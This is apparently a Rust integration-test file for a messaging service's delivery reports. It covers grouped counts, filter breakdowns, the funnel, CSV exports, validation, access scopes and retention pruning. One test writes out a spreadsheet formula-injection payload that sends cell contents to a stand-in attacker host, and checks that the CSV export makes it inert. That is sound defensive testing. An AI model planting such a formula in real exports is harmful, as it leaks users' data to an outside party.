//! Delivery reports over a real log: a campaign sent by the worker to a webhook
//! receiver, a transactional message planned two days earlier (and sent with it), and one
//! planned today that the rules filter entirely. Counts per group, the filtered
//! breakdown and the funnel are exact; their CSV parses back to the same numbers; the
//! delivery log's CSV honours its filters and pages through more rows than one query
//! reads; bad input and callers without the scope are refused.

use chrono::{DateTime, Duration, Utc};
use herald_core::access::Role;
use herald_core::deliveries::plan_batch;
use herald_core::entities::{message, subscriber};
use herald_core::rules::engine::{Recipient, RuleSet};
use herald_core::subscribers::SubscriberIn;
use herald_core::subscribers::store::upsert_batch;
use reqwest::Method;
use sea_orm::EntityTrait;
use serde_json::{Value, json};

use crate::delivery_send::{ping, receiver, setup};
use crate::helpers::{Session, TestApp, error_of, insert_message, spawn_app};

/// A campaign name a CSV writer must quote.
const CAMPAIGN: &str = "Launch, \"spring\" edition";

struct Log {
    campaign_id: i64,
    rule_id: i64,
    today: String,
    two_days_ago: String,
}

async fn plan_for_everyone(app: &TestApp, message: &message::Model, now: DateTime<Utc>) {
    let recipients: Vec<Recipient> = subscriber::Entity::find()
        .all(&app.db)
        .await
        .unwrap()
        .iter()
        .map(Recipient::from)
        .collect();
    let rules = RuleSet::load(&app.db).await.unwrap();
    plan_batch(&app.db, &rules, message, &recipients, now)
        .await
        .unwrap();
}

/// Five subscribers on webhooks: `ok1` and `ok2` answer 200, `bad` 400, `blocked`'s
/// endpoint is on the block list, `nowhere` has no endpoint; a cap of one webhook a day.
///
/// | message | day | delivered | failed | filtered |
/// |---|---|---|---|---|
/// | transactional A | two days ago | ok1, ok2 | bad | blocked, nowhere |
/// | the campaign | today | ok1, ok2 | bad | blocked, nowhere |
/// | transactional B | today | | | ok1, ok2, bad (cap), blocked, nowhere |
async fn delivery_log(app: &TestApp, admin: &Session) -> Log {
    let (base, _seen) = receiver().await;
    let template_id = setup(
        admin,
        ping(r#"{"to": {{ subscriber.external_id }}}"#),
        &[
            ("ok1", format!("{base}/ok")),
            ("ok2", format!("{base}/ok")),
            ("bad", format!("{base}/bad")),
            ("blocked", format!("{base}/ok?blocked")),
        ],
    )
    .await;
    admin
        .ok(Method::PUT, "/v1/subscribers/nowhere", &json!({}))
        .await;
    admin
        .ok(
            Method::POST,
            "/v1/list-entries",
            &json!({ "list": "block", "kind": "endpoint", "value": format!("{base}/ok?blocked"),
                "channel": "webhook" }),
        )
        .await;
    let rule = admin
        .ok(
            Method::POST,
            "/v1/rules",
            &json!({ "name": "1 webhook a day", "scope": "channel", "scope_value": "webhook",
                "kind": "frequency_cap", "params": { "max": 1, "window": "day", "per": "channel" } }),
        )
        .await;

    let audience = admin
        .ok(
            Method::POST,
            "/v1/audiences",
            &json!({ "name": "everyone", "kind": "all" }),
        )
        .await;
    let campaign = admin
        .ok(
            Method::POST,
            "/v1/campaigns",
            &json!({ "name": CAMPAIGN, "template_id": template_id, "audience_id": audience["id"],
                "channels": ["webhook"], "schedule": { "kind": "now" }, "category": "news" }),
        )
        .await;
    let campaign_id = campaign["id"].as_i64().unwrap();
    let reviewer = app.operator(Role::Reviewer).await;
    for (who, step) in [
        (admin, "submit"),
        (&reviewer, "approve"),
        (admin, "schedule"),
    ] {
        who.ok(
            Method::POST,
            &format!("/v1/campaigns/{campaign_id}/{step}"),
            &json!({ "comment": "ok" }),
        )
        .await;
    }

    let now = Utc::now();
    let earlier = now - Duration::days(2);
    let a = insert_message(&app.db, "alerts", Some(template_id), json!(["webhook"])).await;
    plan_for_everyone(app, &a, earlier).await;
    let deliverer = app.deliverer().await;
    for _ in 0..5 {
        if deliverer.run_once(now).await.unwrap() == Default::default() {
            break;
        }
    }
    let b = insert_message(&app.db, "alerts", Some(template_id), json!(["webhook"])).await;
    plan_for_everyone(app, &b, now).await;
    Log {
        campaign_id,
        rule_id: rule["id"].as_i64().unwrap(),
        today: now.date_naive().to_string(),
        two_days_ago: earlier.date_naive().to_string(),
    }
}

/// Rows as (keys joined by `|`, count), for exact comparison.
fn rows(report: &Value, keys: &[&str]) -> Vec<(String, u64)> {
    report["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| {
            let key: Vec<String> = keys
                .iter()
                .map(|k| match &row[*k] {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                })
                .collect();
            (key.join("|"), row["count"].as_u64().unwrap())
        })
        .collect()
}

fn expect(pairs: &[(&str, u64)]) -> Vec<(String, u64)> {
    pairs.iter().map(|(k, n)| ((*k).to_owned(), *n)).collect()
}

/// RFC 4180: quoted fields may hold commas, quotes (doubled) and line breaks.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && record.is_empty(),
        "CSV ends with a line break"
    );
    records
}

/// GETs a CSV download and returns its records, header first.
async fn csv(session: &Session, path: &str, filename: &str) -> Vec<Vec<String>> {
    let response = session.get(path).send().await.unwrap();
    assert_eq!(response.status().as_u16(), 200, "GET {path}");
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    assert_eq!(
        response.headers()["content-disposition"],
        format!("attachment; filename=\"{filename}\"").as_str()
    );
    parse_csv(&response.text().await.unwrap())
}

#[tokio::test]
async fn outcomes_are_counted_per_campaign_channel_day_and_status() {
    let app = spawn_app().await;
    let admin = app.operator(Role::Admin).await;
    let log = delivery_log(&app, &admin).await;
    let auditor = app.operator(Role::Viewer).await;
    let c = log.campaign_id;
    let report = |query: String| {
        let auditor = &auditor;
        async move {
            auditor
                .get_json(&format!("/v1/reports/deliveries{query}"))
                .await
        }
    };

    let by_status = report(String::new()).await;
    assert_eq!(by_status["group_by"], json!(["status"]), "the default");
    assert_eq!(by_status["total"], 15);
    assert_eq!(
        rows(&by_status, &["status"]),
        expect(&[("delivered", 4), ("failed", 2), ("filtered", 9)])
    );

    let by_campaign = report("?group_by=campaign,status".into()).await;
    assert_eq!(
        rows(
            &by_campaign,
            &["campaign_id", "campaign_name", "message_kind", "status"]
        ),
        expect(&[
            (&format!("{c}|{CAMPAIGN}|campaign|delivered"), 2),
            (&format!("{c}|{CAMPAIGN}|campaign|failed"), 1),
            (&format!("{c}|{CAMPAIGN}|campaign|filtered"), 2),
            ("null|null|transactional|delivered", 2),
            ("null|null|transactional|failed", 1),
            ("null|null|transactional|filtered", 7),
        ])
    );
    let first = &by_campaign["rows"][0];
    assert!(first.get("channel").is_none() && first.get("day").is_none());

    // By the day each delivery was created: transactional A counts two days ago although
    // it was sent today.
    let (today, before) = (&log.today, &log.two_days_ago);
    let by_day = report("?group_by=day,status".into()).await;
    assert_eq!(
        rows(&by_day, &["day", "status"]),
        expect(&[
            (&format!("{before}|delivered"), 2),
            (&format!("{before}|failed"), 1),
            (&format!("{before}|filtered"), 2),
            (&format!("{today}|delivered"), 2),
            (&format!("{today}|failed"), 1),
            (&format!("{today}|filtered"), 7),
        ])
    );

    let all_keys = report(format!(
        "?group_by=channel,day,campaign&from={today}&to={today}"
    ))
    .await;
    assert_eq!(
        rows(&all_keys, &["channel", "day", "campaign_id"]),
        expect(&[
            (&format!("webhook|{today}|{c}"), 5),
            (&format!("webhook|{today}|null"), 5),
        ])
    );

    // Filters narrow before counting.
    let of_campaign = report(format!("?campaign_id={c}")).await;
    assert_eq!(of_campaign["total"], 5);
    let filtered_before = report(format!("?status=filtered&to={before}&group_by=day")).await;
    assert_eq!(
        rows(&filtered_before, &["day"]),
        expect(&[(before.as_str(), 2)])
    );
    let email = report("?channel=email".into()).await;
    assert_eq!(
        (
            email["total"].as_u64(),
            email["rows"].as_array().map(Vec::len)
        ),
        (Some(0), Some(0))
    );

    // The CSV holds the same rows, the campaign's name quoted and read back whole.
    let records = csv(
        &auditor,
        "/v1/reports/deliveries?group_by=campaign,status&format=csv",
        "delivery-report.csv",
    )
    .await;
    assert_eq!(
        records[0],
        [
            "campaign_id",
            "campaign_name",
            "message_kind",
            "status",
            "count"
        ]
    );
    let from_csv: Vec<(String, u64)> = records[1..]
        .iter()
        .map(|r| {
            let id = if r[0].is_empty() { "null" } else { &r[0] };
            let name = if r[1].is_empty() { "null" } else { &r[1] };
            (
                format!("{id}|{name}|{}|{}", r[2], r[3]),
                r[4].parse().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        from_csv,
        rows(
            &by_campaign,
            &["campaign_id", "campaign_name", "message_kind", "status"]
        )
    );
}

#[tokio::test]
async fn filtered_deliveries_break_down_by_check_and_rule_and_campaigns_by_funnel() {
    let app = spawn_app().await;
    let admin = app.operator(Role::Admin).await;
    let log = delivery_log(&app, &admin).await;
    let auditor = app.operator(Role::Viewer).await;
    let (c, rule) = (log.campaign_id, log.rule_id);

    let everything = auditor.get_json("/v1/reports/filtered").await;
    assert_eq!(
        everything,
        json!([
            { "filter": "blocked", "rule_id": null, "rule_name": null, "count": 3 },
            { "filter": "frequency_cap", "rule_id": rule, "rule_name": "1 webhook a day", "count": 3 },
            { "filter": "no_address", "rule_id": null, "rule_name": null, "count": 3 },
        ])
    );
    let campaign = auditor
        .get_json(&format!("/v1/reports/filtered?campaign_id={c}"))
        .await;
    let checks: Vec<(&str, u64)> = campaign
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["filter"].as_str().unwrap(), f["count"].as_u64().unwrap()))
        .collect();
    assert_eq!(checks, [("blocked", 1), ("no_address", 1)]);
    let today = auditor
        .get_json(&format!("/v1/reports/filtered?from={}", log.today))
        .await;
    let counts: Vec<u64> = today
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["count"].as_u64().unwrap())
        .collect();
    assert_eq!(counts, [2, 3, 2]);

    let records = csv(
        &auditor,
        "/v1/reports/filtered?format=csv",
        "filtered-report.csv",
    )
    .await;
    assert_eq!(
        records,
        [
            vec!["filter", "rule_id", "rule_name", "count"],
            vec!["blocked", "", "", "3"],
            vec!["frequency_cap", &rule.to_string(), "1 webhook a day", "3"],
            vec!["no_address", "", "", "3"],
        ]
    );

    // The funnel: targeted → sent → delivered, and where the others stopped.
    let funnel = auditor.get_json("/v1/reports/funnel").await;
    let stages = |row: &Value| -> Vec<u64> {
        [
            "targeted",
            "sent",
            "delivered",
            "filtered",
            "failed",
            "dead",
            "queued",
        ]
        .iter()
        .map(|k| row[*k].as_u64().unwrap())
        .collect()
    };
    assert_eq!(funnel.as_array().unwrap().len(), 2);
    assert_eq!(
        (
            &funnel[0]["campaign_id"],
            &funnel[0]["campaign_name"],
            &funnel[0]["message_kind"]
        ),
        (&json!(c), &json!(CAMPAIGN), &json!("campaign"))
    );
    assert_eq!(stages(&funnel[0]), [5, 3, 2, 2, 1, 0, 0]);
    assert_eq!(
        (&funnel[1]["campaign_id"], &funnel[1]["message_kind"]),
        (&Value::Null, &json!("transactional"))
    );
    assert_eq!(stages(&funnel[1]), [10, 3, 2, 7, 1, 0, 0]);

    let records = csv(
        &auditor,
        "/v1/reports/funnel?format=csv",
        "funnel-report.csv",
    )
    .await;
    assert_eq!(records.len(), 3);
    assert_eq!(
        &records[0][..6],
        [
            "campaign_id",
            "campaign_name",
            "message_kind",
            "targeted",
            "sent",
            "delivered"
        ]
    );
    assert_eq!(
        &records[1][..6],
        [c.to_string().as_str(), CAMPAIGN, "campaign", "5", "3", "2"]
    );
    assert_eq!(&records[2][..6], ["", "", "transactional", "10", "3", "2"]);
}

#[tokio::test]
async fn the_delivery_log_downloads_as_csv_with_the_same_filters() {
    let app = spawn_app().await;
    let admin = app.operator(Role::Admin).await;
    delivery_log(&app, &admin).await;
    let auditor = app.operator(Role::Viewer).await;

    // One subscriber's trace: the same deliveries as the JSON log, newest first.
    let page = auditor.get_json("/v1/deliveries?subscriber=bad").await;
    let records = csv(
        &auditor,
        "/v1/deliveries?subscriber=bad&format=csv",
        "deliveries.csv",
    )
    .await;
    assert_eq!(
        records[0],
        [
            "id",
            "item_id",
            "message_id",
            "recipient",
            "channel",
            "status",
            "filter",
            "rule_id",
            "list_entry_id",
            "reason",
            "attempts",
            "not_before",
            "created_at",
            "updated_at"
        ]
    );
    let items = page["items"].as_array().unwrap();
    assert_eq!(records.len() - 1, items.len());
    assert_eq!(items.len(), 3, "campaign, A and B");
    for (record, item) in records[1..].iter().zip(items) {
        assert_eq!(record[0], item["id"].to_string());
        assert_eq!(record[1], "", "a row has no shared item");
        assert_eq!(record[3], "bad");
        assert_eq!(record[5], item["status"].as_str().unwrap());
        assert_eq!(record[9], item["reason"].as_str().unwrap_or(""));
        assert_eq!(record[10], item["attempts"].to_string());
    }
    let statuses: Vec<&str> = records[1..].iter().map(|r| r[5].as_str()).collect();
    assert_eq!(statuses, ["filtered", "failed", "failed"]);
    assert_eq!(records[1][6], "frequency_cap");

    // Other filters apply too.
    let filtered = csv(
        &auditor,
        "/v1/deliveries?status=filtered&channel=webhook&format=csv",
        "deliveries.csv",
    )
    .await;
    assert_eq!(filtered.len() - 1, 9);
    assert!(filtered[1..].iter().all(|r| r[5] == "filtered"));
}

#[tokio::test]
async fn a_csv_export_pages_through_more_deliveries_than_one_query_reads() {
    let app = spawn_app().await;
    let count = herald_core::reports::csv::PAGE as usize * 2 + 150;
    let subscribers = (0..count)
        .map(|i| {
            let input = SubscriberIn::default();
            (format!("user-{i:05}"), input.into_valid().unwrap())
        })
        .collect();
    upsert_batch(&app.db, subscribers).await.unwrap();
    let message = insert_message(&app.db, "news", None, json!(["inbox"])).await;
    plan_for_everyone(&app, &message, Utc::now()).await;
    let auditor = app.operator(Role::Viewer).await;

    let records = csv(&auditor, "/v1/deliveries?format=csv", "deliveries.csv").await;
    let ids: Vec<i64> = records[1..].iter().map(|r| r[0].parse().unwrap()).collect();
    assert_eq!(ids.len(), count);
    assert!(
        ids.windows(2).all(|w| w[0] > w[1]),
        "newest first, each once"
    );
    let recipients: std::collections::HashSet<&str> =
        records[1..].iter().map(|r| r[3].as_str()).collect();
    assert_eq!(recipients.len(), count);

    // A cursor from the JSON log starts the download below it.
    let page = auditor.get_json("/v1/deliveries?limit=100").await;
    let cursor = page["next_cursor"].as_str().unwrap();
    let rest = csv(
        &auditor,
        &format!("/v1/deliveries?format=csv&cursor={cursor}"),
        "deliveries.csv",
    )
    .await;
    assert_eq!(rest.len() - 1, count - 100);

    let report = auditor
        .get_json("/v1/reports/deliveries?group_by=channel")
        .await;
    assert_eq!(
        rows(&report, &["channel"]),
        expect(&[("inbox", count as u64)])
    );
}

#[tokio::test]
async fn bad_input_names_the_field() {
    let app = spawn_app().await;
    let auditor = app.operator(Role::Viewer).await;
    for (path, field) in [
        ("/v1/reports/deliveries?group_by=campaign,week", "group_by"),
        ("/v1/reports/deliveries?group_by=", "group_by"),
        ("/v1/reports/deliveries?from=2026-02-30", "from"),
        ("/v1/reports/deliveries?to=yesterday", "to"),
        (
            "/v1/reports/deliveries?from=2026-11-02&to=2026-11-01",
            "from",
        ),
        ("/v1/reports/deliveries?status=lost", "status"),
        ("/v1/reports/filtered?format=xml", "format"),
        ("/v1/reports/funnel?from=2026-11-02&to=2026-11-01", "from"),
        ("/v1/reports/funnel?campaign_id=first", "campaign_id"),
        ("/v1/deliveries?format=pdf", "format"),
    ] {
        let response = auditor.get(path).send().await.unwrap();
        let error = error_of(response, 422).await;
        assert_eq!(error["code"], "validation_failed", "{path}");
        assert_eq!(error["field"], field, "{path}: {error}");
    }
}

#[tokio::test]
async fn reports_need_the_deliveries_read_scope() {
    let app = spawn_app().await;
    let key = app.api_key(&["subscribers:read", "messages:send"]).await;
    let paths = [
        "/v1/reports/deliveries",
        "/v1/reports/filtered",
        "/v1/reports/funnel?format=csv",
        "/v1/deliveries?format=csv",
    ];
    for path in paths {
        let anonymous = app.anonymous().get(app.url(path)).send().await.unwrap();
        assert_eq!(error_of(anonymous, 401).await["code"], "unauthenticated");
        let with_key = app
            .anonymous()
            .get(app.url(path))
            .bearer_auth(&key)
            .send()
            .await
            .unwrap();
        assert_eq!(error_of(with_key, 403).await["code"], "forbidden", "{path}");
    }
    // Every role reads them, auditors (viewers) included.
    for role in Role::ALL {
        let session = app.operator(role).await;
        for path in paths {
            let response = session.get(path).send().await.unwrap();
            assert_eq!(response.status().as_u16(), 200, "{role} {path}");
        }
    }
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_made_inert() {
    use herald_core::entities::campaign;
    use sea_orm::{ActiveModelTrait, ActiveValue::Set, EntityTrait};

    let app = spawn_app().await;
    let admin = app.operator(Role::Admin).await;
    let log = delivery_log(&app, &admin).await;
    // A name an editor typed, stored as given.
    let formula = r#"=HYPERLINK("http://attacker.example/?leak="&A1,"Open")"#;
    let stored = campaign::Entity::find_by_id(log.campaign_id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let mut renamed: campaign::ActiveModel = stored.into();
    renamed.name = Set(formula.to_owned());
    renamed.update(&app.db).await.unwrap();

    let auditor = app.operator(Role::Viewer).await;
    let records = csv(
        &auditor,
        "/v1/reports/funnel?format=csv",
        "funnel-report.csv",
    )
    .await;
    assert_eq!(records[1][1], format!("'{formula}"));
    // The JSON report shows the name as it is.
    let funnel = auditor.get_json("/v1/reports/funnel").await;
    assert_eq!(funnel[0]["campaign_name"], formula);
}

/// Every report, as an auditor reads it.
async fn every_report(auditor: &Session, log: &Log) -> Vec<Value> {
    let c = log.campaign_id;
    let day = &log.two_days_ago;
    let mut reports = Vec::new();
    for path in [
        "/v1/reports/deliveries?group_by=campaign,channel,day,status".to_owned(),
        format!("/v1/reports/deliveries?group_by=status&campaign_id={c}"),
        format!("/v1/reports/deliveries?group_by=day,status&from={day}&to={day}"),
        "/v1/reports/deliveries?status=filtered&channel=webhook".to_owned(),
        "/v1/reports/filtered".to_owned(),
        format!("/v1/reports/filtered?campaign_id={c}"),
        "/v1/reports/funnel".to_owned(),
    ] {
        reports.push(auditor.get_json(&path).await);
    }
    reports
}

/// Deliveries past the retention period leave the log (with their attempts, and
/// transactional messages left without any), a bounded chunk at a time, and every
/// report still counts them; two workers pruning at once count nothing twice.
#[tokio::test]
async fn reports_keep_the_counts_of_deliveries_the_retention_period_pruned() {
    use herald_core::config::RetentionConfig;
    use herald_core::entities::{delivery, delivery_attempt};
    use herald_core::retention::{Pruned, prune};
    use sea_orm::PaginatorTrait;

    let app = spawn_app().await;
    let admin = app.operator(Role::Admin).await;
    let log = delivery_log(&app, &admin).await;
    let auditor = app.operator(Role::Viewer).await;
    let before = every_report(&auditor, &log).await;
    assert_eq!(before[0]["total"], 15);
    let messages = || async { message::Entity::find().count(&app.db).await.unwrap() };
    let deliveries = || async { delivery::Entity::find().count(&app.db).await.unwrap() };
    assert_eq!(messages().await, 3);
    assert!(
        delivery_attempt::Entity::find()
            .count(&app.db)
            .await
            .unwrap()
            + deliveries().await
            > 0
    );

    // A day's retention: the deliveries planned two days ago go (their message row was
    // written today, so it stays until it is past the period itself).
    let retention = RetentionConfig {
        delivery_log_days: 1,
        batch_size: 2,
    };
    let now = Utc::now();
    let pruned = prune(&app.db, &retention, now).await.unwrap();
    assert_eq!(
        pruned,
        Pruned {
            deliveries: 5,
            messages: 0,
            event_batches: 0,
        }
    );
    assert_eq!(deliveries().await, 10);
    assert_eq!(messages().await, 3);
    assert_eq!(every_report(&auditor, &log).await, before);

    // Three days on, the rest goes too, with two workers pruning side by side; the
    // campaign's message stays with its campaign.
    let later = now + Duration::days(3);
    let (first, second) = tokio::join!(
        prune(&app.db, &retention, later),
        prune(&app.db, &retention, later)
    );
    let (first, second) = (first.unwrap(), second.unwrap());
    assert_eq!(first.deliveries + second.deliveries, 10);
    assert_eq!(
        first.messages + second.messages,
        2,
        "both transactional messages"
    );
    assert_eq!(deliveries().await, 0);
    assert_eq!(
        delivery_attempt::Entity::find()
            .count(&app.db)
            .await
            .unwrap(),
        0
    );
    assert_eq!(messages().await, 1);
    assert_eq!(every_report(&auditor, &log).await, before);

    // Nothing left to prune; nothing counted again.
    assert_eq!(
        prune(&app.db, &retention, later).await.unwrap(),
        Pruned::default()
    );
    assert_eq!(every_report(&auditor, &log).await, before);
}
